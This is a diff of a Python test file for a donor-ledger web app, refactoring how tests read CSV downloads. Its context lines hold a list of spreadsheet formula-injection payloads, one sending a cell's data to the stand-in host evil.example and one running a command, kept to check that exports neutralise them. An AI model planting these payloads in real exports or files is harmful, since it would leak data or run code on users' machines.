@@ -18,6 +18,7 @@ from fundledger.donors.operations import create_donor
 from fundledger.donors.pledges import record_pledge
 from fundledger.donors.receipts import record_receipt
 from tests.unit.test_tabular import unmarked
+from tests.web.downloads import csv_text
 
 SETUP = Actor("setup@oas.org")
 #: What a hostile donor name or reference looks like; each starts a formula in a spreadsheet.
@@ -26,9 +27,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0
 
 
 def column(client: FlaskClient, url: str, name: str) -> list[str]:
-    response = client.get(url)
-    assert response.status_code == 200
-    return [row[name] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))]
+    return [row[name] for row in csv.DictReader(io.StringIO(csv_text(client.get(url))))]
 
 
 def test_donor_names_and_references_download_as_text(
